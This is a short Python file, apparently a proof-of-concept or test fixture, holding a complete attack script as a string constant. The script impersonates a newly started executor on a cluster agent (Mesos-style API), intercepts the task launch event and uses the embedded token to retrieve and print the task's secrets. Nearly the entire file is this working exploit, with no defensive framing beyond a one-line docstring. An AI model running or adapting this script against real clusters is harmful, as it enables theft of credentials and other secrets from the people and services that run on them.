"""Attack on secrets: a program that takes the place of an executor."""

#: Argument: IP:PORT of an agent. Subscribes as its first new executor and requests the secrets of its task.
SUBSCRIBE_AS_EXECUTOR = r"""
import base64, http.client, json, sys, time, urllib.request
agent = sys.argv[1]
def executors():
    state = json.load(urllib.request.urlopen(f"http://{agent}/state"))
    return {(f["id"], e["id"]) for f in state["frameworks"] for e in f["executors"]}
known = executors()
print("ready", flush=True)
while not (new := executors() - known):
    time.sleep(0.05)  # an executor starts in half a second
framework, executor = new.pop()
link = http.client.HTTPConnection(agent)
subscribe = {"type": "SUBSCRIBE", "framework_id": {"value": framework}, "executor_id": {"value": executor},
             "subscribe": {"unacknowledged_tasks": [], "unacknowledged_updates": []}}
head = {"Content-Type": "application/json", "Accept": "application/json"}
link.request("POST", "/slave(1)/api/v1/executor", json.dumps(subscribe), head)
stream, event = link.getresponse(), {"type": ""}
if stream.status != 200:
    sys.exit(f"HTTP {stream.status}")
while event["type"] != "LAUNCH":
    size = b""
    while not size.endswith(b"\n"):
        size += stream.read(1)
    event = json.loads(stream.read(int(size)))
task = event["launch"]["task"]
data = json.loads(base64.b64decode(task["data"]))
ask = {"task_id": task["task_id"]["value"], "token": data["secrets_token"], "nonce": "attacker" * 4}
request = urllib.request.Request(data["secrets_url"], json.dumps(ask).encode(), {"Content-Type": "application/json"})
(secret,) = json.load(urllib.request.urlopen(request))["secrets"]
print(base64.b64decode(secret["value"]).decode())
"""
